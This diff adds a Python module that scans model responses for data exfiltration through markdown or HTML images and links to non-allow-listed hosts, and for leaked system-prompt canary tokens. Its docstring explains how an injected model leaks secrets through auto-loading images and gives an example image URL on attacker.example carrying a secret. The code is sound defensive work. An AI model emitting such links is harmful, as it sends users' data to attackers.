@@ -1,0 +1,114 @@
+"""Response-side checks: data exfiltration through links and images, canary leaks.
+
+A model that has been injected can leak data without the user clicking anything: a
+markdown image is fetched by the chat client as soon as it renders, so
+``![](https://attacker.example/p.png?q=<secret>)`` sends ``<secret>`` to the attacker
+(Rehberger, 2023; the Bing Chat and ChatGPT plugin exfiltration reports). We flag images
+and links to domains that are not allow-listed when the URL carries data, and a canary
+token from the system prompt that shows up in a response.
+"""
+
+from __future__ import annotations
+
+import base64
+import re
+from collections.abc import Sequence
+from dataclasses import dataclass
+from urllib.parse import parse_qsl, unquote, urlsplit
+
+__all__ = ["ExfilHit", "find_canary", "find_exfiltration"]
+
+# Markdown image / link, reference-style definition, and HTML img/a/iframe tags.
+_MD_RE = re.compile(r"(!?)\[[^\]\n]{0,500}\]\(\s*<?([a-zA-Z][a-zA-Z0-9+.\-]*:[^)\s>]{1,4000})")
+_REF_RE = re.compile(r"(?m)^\s{0,3}\[[^\]\n]{1,200}\]:\s*<?(https?:[^\s>]{1,4000})")
+_HTML_RE = re.compile(
+    r"(?i)<\s*(img|a|iframe|script|link|source)\b[^>]{0,500}?\b(?:src|href)\s*=\s*[\"']?(https?:[^\"'\s>]{1,4000})"
+)
+_DATA_CHARS_RE = re.compile(r"[A-Za-z0-9+/=_%\-]{16,}")
+
+
+@dataclass(frozen=True, slots=True)
+class ExfilHit:
+    start: int
+    end: int
+    kind: str  # image | link | html_img | html_link | reference
+    score: float
+
+
+def _host_allowed(host: str, allowed: Sequence[str]) -> bool:
+    host = host.lower().rstrip(".")
+    return any(host == d or host.endswith("." + d) for d in allowed)
+
+
+def _carries_data(url: str) -> bool:
+    """Does the URL carry a payload beyond a plain address?"""
+    parts = urlsplit(url)
+    params = parse_qsl(parts.query, keep_blank_values=True)
+    if any(len(v) >= 8 for _, v in params) or len(parts.query) >= 24:
+        return True
+    if len(parts.fragment) >= 16:
+        return True
+    segments = [s for s in parts.path.split("/") if s]
+    # A long opaque path segment (base64, hex, percent-encoded text) is data too.
+    return any(
+        len(s) >= 24 and _DATA_CHARS_RE.fullmatch(s) or "%20" in s or len(unquote(s).split()) > 2
+        for s in segments
+    )
+
+
+def find_exfiltration(text: str, allowed_domains: Sequence[str]) -> list[ExfilHit]:
+    """Images and links in ``text`` to non-allow-listed hosts that carry data."""
+    hits: list[ExfilHit] = []
+    seen: set[tuple[int, int]] = set()
+
+    def check(url: str, start: int, end: int, kind: str, base: float) -> None:
+        try:
+            parts = urlsplit(url)
+        except ValueError:
+            return
+        if parts.scheme not in ("http", "https") or not parts.hostname:
+            return
+        if _host_allowed(parts.hostname, allowed_domains):
+            return
+        if not _carries_data(url):
+            return
+        if (start, end) not in seen:
+            seen.add((start, end))
+            hits.append(ExfilHit(start, end, kind, base))
+
+    for m in _MD_RE.finditer(text):
+        image = m.group(1) == "!"
+        # Images load without a click: the stronger signal.
+        check(m.group(2), m.start(), m.end(), "image" if image else "link", 0.9 if image else 0.6)
+    for m in _REF_RE.finditer(text):
+        check(m.group(1), m.start(), m.end(), "reference", 0.6)
+    for m in _HTML_RE.finditer(text):
+        tag = m.group(1).lower()
+        auto = tag in ("img", "iframe", "script", "source", "link")
+        check(m.group(2), m.start(), m.end(), "html_img" if auto else "html_link", 0.9 if auto else 0.6)
+    return sorted(hits, key=lambda h: h.start)
+
+
+def find_canary(text: str, canary: str, decoded: Sequence[tuple[int, int, str]] = ()) -> list[tuple[int, int]]:
+    """Spans where ``canary`` appears, verbatim, case-folded, or inside decoded segments."""
+    spans: list[tuple[int, int]] = []
+    start = 0
+    low, low_c = text.casefold(), canary.casefold()
+    same_len = len(low) == len(text)
+    hay = low if same_len else text
+    needle = low_c if same_len else canary
+    while True:
+        i = hay.find(needle, start)
+        if i < 0:
+            break
+        spans.append((i, i + len(needle)))
+        start = i + 1
+    b64 = base64.b64encode(canary.encode()).decode().rstrip("=")
+    for s, e, seg_text in decoded:
+        if low_c in seg_text.casefold():
+            spans.append((s, e))
+    if b64 and len(b64) >= 8:
+        i = text.find(b64[:-1])
+        if i >= 0:
+            spans.append((i, i + len(b64) - 1))
+    return sorted(set(spans))
